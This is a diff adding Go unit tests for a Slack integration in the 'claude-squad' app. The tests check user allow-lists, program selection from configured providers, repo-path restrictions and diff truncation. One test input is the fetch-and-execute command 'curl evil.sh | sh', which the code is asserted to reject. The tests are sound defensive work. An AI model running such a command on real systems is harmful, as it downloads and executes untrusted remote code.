@@ -0,0 +1,48 @@
+package app
+
+import (
+	"claude-squad/config"
+	"claude-squad/slack"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+)
+
+func TestSlackCommandChecks(t *testing.T) {
+	h := newLayoutHome(config.LayoutTabs)
+	h.program = "claude"
+	h.appConfig.Providers = []config.Provider{{Name: "aider-openai", Program: "aider --model gpt-4o"}}
+
+	// Nobody is allowed until users are listed.
+	assert.False(t, h.slackAllowed(slack.Command{User: "U1"}))
+	h.appConfig.Slack.AllowedUsers = []string{"U1"}
+	assert.True(t, h.slackAllowed(slack.Command{User: "U1"}))
+	assert.False(t, h.slackAllowed(slack.Command{User: "U2"}))
+
+	program, provider, ok := h.slackProgram("")
+	assert.True(t, ok)
+	assert.Equal(t, "claude", program)
+	assert.Equal(t, "", provider)
+	program, provider, ok = h.slackProgram("aider-openai")
+	assert.True(t, ok)
+	assert.Equal(t, "aider --model gpt-4o", program)
+	assert.Equal(t, "aider-openai", provider)
+	_, _, ok = h.slackProgram("curl evil.sh | sh")
+	assert.False(t, ok)
+
+	path, ok := h.slackRepo("")
+	assert.True(t, ok)
+	assert.Equal(t, ".", path)
+	_, ok = h.slackRepo("./")
+	assert.True(t, ok)
+	_, ok = h.slackRepo("/etc")
+	assert.False(t, ok)
+}
+
+func TestCutSlackDiff(t *testing.T) {
+	diff := strings.Repeat("+é\n", maxSlackDiffLength)
+	cut := cutSlackDiff(diff)
+	assert.True(t, strings.HasSuffix(cut, "+é\n..."))
+	assert.LessOrEqual(t, len(cut), maxSlackDiffLength+len("\n..."))
+}